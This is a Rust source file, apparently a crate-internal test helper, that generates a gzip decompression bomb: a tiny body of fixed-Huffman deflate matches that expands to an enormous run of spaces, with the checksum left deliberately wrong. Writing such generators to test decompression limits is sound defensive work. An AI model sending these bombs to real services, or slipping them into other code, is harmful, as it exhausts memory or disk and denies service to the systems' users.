//! A gzip bomb: a small body that unpacks to very many spaces (RFC 1951, RFC 1952).

/// Bits, least significant first, as deflate packs them.
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    buffer: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        self.buffer |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            self.out.extend(self.buffer.to_le_bytes().first());
            self.buffer >>= 8;
            self.count -= 8;
        }
    }

    /// A Huffman code, which goes most significant bit first.
    fn push_code(&mut self, code: u32, width: u32) {
        self.push(code.reverse_bits() >> (32 - width), width);
    }

    fn finish(mut self) -> Vec<u8> {
        self.push(0, 7);
        self.out
    }
}

/// Fixed Huffman code of the literal `' '` (0x20): 8 bits, 0x30 + value.
const SPACE: (u32, u32) = (0x30 + 0x20, 8);
/// Fixed Huffman code of the longest match, 258 bytes (symbol 285).
const LONGEST: (u32, u32) = (0b1100_0101, 8);
/// How many bytes that match stands for.
const LONGEST_LENGTH: usize = 258;

/// gzip of about `size` spaces: one literal, then matches at distance 1.
pub(crate) fn spaces(size: usize) -> Vec<u8> {
    let matches = size / LONGEST_LENGTH;
    let mut bits = Bits::default();
    // The last block, with fixed codes.
    bits.push(0b011, 3);
    bits.push_code(SPACE.0, SPACE.1);
    for _ in 0..matches {
        bits.push_code(LONGEST.0, LONGEST.1);
        bits.push(0, 5);
    }
    // End of block (symbol 256).
    bits.push(0, 7);
    let length = matches * LONGEST_LENGTH + 1;
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    out.extend(bits.finish());
    // The checksum is left wrong: who reads that far has unpacked everything.
    out.extend([0; 4]);
    out.extend(u32::try_from(length).unwrap_or(u32::MAX).to_le_bytes());
    out
}
